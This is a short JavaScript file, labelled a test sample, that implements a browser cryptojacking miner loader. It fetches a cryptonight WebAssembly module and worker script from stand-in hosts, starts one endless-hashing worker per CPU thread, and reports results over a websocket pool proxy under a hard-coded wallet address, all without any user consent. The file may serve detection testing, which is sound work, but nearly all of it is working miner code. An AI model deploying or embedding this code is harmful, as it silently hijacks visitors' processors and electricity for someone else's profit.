/* Test sample: self-hosted cryptonight WebAssembly miner loader talking to a
   websocket pool proxy. */
var WSS_PROXY = 'wss://pool-proxy.example.test:8443/';
var WALLET = '48ASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVKf';

function CryptonightWorker(blob) {
    var worker = new Worker(URL.createObjectURL(new Blob([blob], { type: 'application/javascript' })));
    return worker;
}

var workerSource = [
    "importScripts('https://cdn.example.test/cryptonight.js');",
    "var cn = Module.cwrap('cryptonight_hash', 'string', ['string', 'number']);",
    "onmessage = function (e) {",
    "  var job = e.data, nonce = 0, hash;",
    "  while (true) {",
    "    hash = cn(job.blob + nonce.toString(16), job.variant);",
    "    if (parseInt(hash.substr(56), 16) < job.target) { postMessage({ nonce: nonce, result: hash }); }",
    "    nonce++;",
    "  }",
    "};"
].join('\n');

fetch('https://cdn.example.test/cryptonight.wasm').then(function (r) {
    return r.arrayBuffer();
}).then(function (wasm) {
    WebAssembly.instantiate(wasm, {}).then(function () {
        var ws = new WebSocket(WSS_PROXY);
        var threads = navigator.hardwareConcurrency || 2;
        var workers = [];
        for (var i = 0; i < threads; i++) {
            workers.push(CryptonightWorker(workerSource));
        }
        ws.onopen = function () {
            ws.send(JSON.stringify({ type: 'auth', params: { site_key: WALLET, type: 'anonymous', user: null, algo: 'cn/r' } }));
        };
        ws.onmessage = function (m) {
            var msg = JSON.parse(m.data);
            if (msg.type === 'job') {
                workers.forEach(function (w) {
                    w.onmessage = function (e) {
                        ws.send(JSON.stringify({ type: 'submit', params: { job_id: msg.params.job_id, nonce: e.data.nonce, result: e.data.result } }));
                    };
                    w.postMessage(msg.params);
                });
            }
        };
    });
});
